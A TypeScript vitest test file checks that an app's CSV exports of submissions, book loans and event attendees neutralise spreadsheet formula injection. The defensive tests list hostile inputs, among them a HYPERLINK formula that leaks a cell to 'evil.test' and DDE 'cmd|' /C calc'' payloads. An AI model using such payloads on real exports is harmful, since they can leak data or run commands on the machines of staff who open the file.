import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { columnsOf, flatten, toCsv } from './csv';
import { SUBMISSION_COLUMNS, submissionRows } from '../submissions/exporter';
import { CSV_COLUMNS, csvRows, toAttendees, type Registration } from '../events/attendees/attendees';

/** The cells as a spreadsheet reads them (after the byte-order mark). */
const parse = (csv: string) => Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;

// What visitors can type into any form, each a formula or a trick to start one.
const HOSTILE = [
  '=HYPERLINK("http://evil.test/?leak="&B2,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\n=1+1',
  '=1+1\nsecond line',
  '＝1+1',
];

describe('the CSV writer', () => {
  it('starts with a UTF-8 byte-order mark and ends lines with CRLF', () => {
    const csv = toCsv(['name'], [{ name: 'أحمد خليل' }, { name: 'Çağrı' }]);
    expect(csv).toBe('\uFEFFname\r\nأحمد خليل\r\nÇağrı\r\n');
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it.each(HOSTILE)('writes %j as text a spreadsheet does not run', (value) => {
    const [header, row] = parse(toCsv(['name', 'n'], [{ name: value, n: 1 }]));
    expect(header).toEqual(['name', 'n']);
    expect(row).toEqual([`'${value}`, '1']);
  });

  it('leaves ordinary text, numbers and inner signs alone, and quotes what needs quoting', () => {
    const rows = [{ a: 'a=b', b: -5, c: 'x, "y"', d: null, e: true }];
    const csv = toCsv(['a', 'b', 'c', 'd', 'e'], rows);
    expect(csv).toBe('\uFEFFa,b,c,d,e\r\na=b,-5,"x, ""y""",,true\r\n');
  });

  it('flattens localized texts into a column per language and keeps column order', () => {
    const rows = [
      flatten({ id: '1', title: { ar: 'أمسية', en: '=evening', tr: 'akşam' }, tags: ['a', 'b'] }),
      flatten({ id: '2', extra: 'x' }),
    ];
    expect(columnsOf(rows)).toEqual(['id', 'title.ar', 'title.en', 'title.tr', 'tags', 'extra']);
    const parsed = parse(toCsv(columnsOf(rows), rows));
    expect(parsed[1]).toEqual(['1', 'أمسية', "'=evening", 'akşam', '["a","b"]', '']);
  });
});

describe('the submissions export', () => {
  const events = { e1: { title: { ar: 'ليلة فيلم', en: 'Film night', tr: 'Film gecesi' } } };
  const books = { b1: { title: { ar: 'رجال في الشمس', en: 'Men in the Sun', tr: 'Güneşteki Adamlar' } } };
  const records = [
    { id: 's1', type: 'registration', name: '=HYPERLINK("http://evil.test","x")', event_id: 'e1', book_id: null },
    { id: 's2', type: 'book_loan', name: 'Lina', event_id: null, book_id: 'b1', loan_date: '2026-12-01' },
  ];

  it('names the event and the book beside their ids, in the staff member’s language', () => {
    const parsed = parse(toCsv(SUBMISSION_COLUMNS, submissionRows(records, events, books, 'ar')));
    const header = parsed[0]!;
    const at = (row: number, column: string) => parsed[row]![header.indexOf(column)];
    expect(header.indexOf('event_title')).toBe(header.indexOf('event_id') + 1);
    expect(header.indexOf('book_title')).toBe(header.indexOf('book_id') + 1);
    expect(at(1, 'event_id')).toBe('e1');
    expect(at(1, 'event_title')).toBe('ليلة فيلم');
    expect(at(1, 'name')).toBe('\'=HYPERLINK("http://evil.test","x")');
    expect(at(2, 'book_title')).toBe('رجال في الشمس');
    expect(at(2, 'event_title')).toBe('');
    expect(at(2, 'loan_date')).toBe('2026-12-01');
  });
});

describe('the attendee export', () => {
  it('neutralises formulas in names and numbers typed by visitors', () => {
    const registration: Registration = {
      id: 'r1',
      version: 1,
      name: '@SUM(1+1)*cmd|" /C calc"!A0',
      student_number: '-2021',
      status: 'approved',
      email: '+x@evil.test',
      waitlist_position: null,
      attended_at: null,
      created_at: '2026-11-01T10:00:00Z',
    };
    const parsed = parse(toCsv(CSV_COLUMNS, csvRows(toAttendees([registration]))));
    expect(parsed[1]).toEqual(['\'@SUM(1+1)*cmd|" /C calc"!A0', "'-2021", 'approved', "'+x@evil.test", '', '']);
  });
});
